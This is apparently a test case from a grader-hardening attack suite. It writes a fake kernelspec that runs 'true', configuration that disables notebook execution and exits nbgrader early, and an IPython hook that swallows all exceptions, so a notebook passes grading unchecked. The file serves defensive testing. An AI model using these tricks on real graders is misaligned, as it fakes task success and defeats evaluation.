# Tries: ships a kernelspec and Jupyter, IPython and nbgrader configuration beside the notebook.
# Kind: scores
# Stock: yes
import json

from tests.attacks.tools import write

SPEC = {"argv": ["true", "{connection_file}"], "language": "python", "display_name": "x"}


def attack(notebook, folder, course):
    for place in (".local/share/jupyter", "share/jupyter", ".jupyter", "."):
        write(folder, f"{place}/kernels/python3/kernel.json", json.dumps(SPEC))
    write(folder, "nbgrader_config.py", "raise SystemExit(0)\n")
    write(folder, "jupyter_config.py", "c.Execute.enabled = False\n")
    write(folder, "jupyter_nbconvert_config.py", "c.Execute.enabled = False\n")
    code = "get_ipython().set_custom_exc((BaseException,), lambda *a, **k: [])\n"
    write(folder, ".ipython/profile_default/startup/00.py", code)
    write(folder, "ipython_config.py", f"c.InteractiveShellApp.exec_lines = [{code!r}]\n")
    write(folder, "ipython_kernel_config.py", f"c.InteractiveShellApp.exec_lines = [{code!r}]\n")
    return notebook
